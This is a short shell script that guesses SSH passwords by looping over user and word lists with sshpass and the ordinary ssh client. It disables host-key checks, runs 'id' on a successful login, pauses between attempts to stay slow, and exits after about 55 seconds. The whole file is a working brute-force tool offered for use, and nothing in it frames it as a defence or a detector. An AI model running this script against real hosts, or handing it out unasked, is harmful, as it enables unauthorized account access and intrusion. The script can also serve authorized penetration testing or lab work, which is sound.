#!/bin/sh
# Guesses SSH passwords one by one with the ordinary client. Call: ssh_slow.sh HOST PORT PAUSE USERS WORDS
host=$1 port=$2 pause=$3 users=$4 words=$5
end=$(($(date +%s) + 55))
while read -r word; do
    while read -r user; do
        [ "$(date +%s)" -lt "$end" ] || exit 0
        sshpass -p "$word" ssh -n -p "$port" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 \
            -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no "$user@$host" id
        sleep "$pause"
    done <"$users"
done <"$words"
exit 0
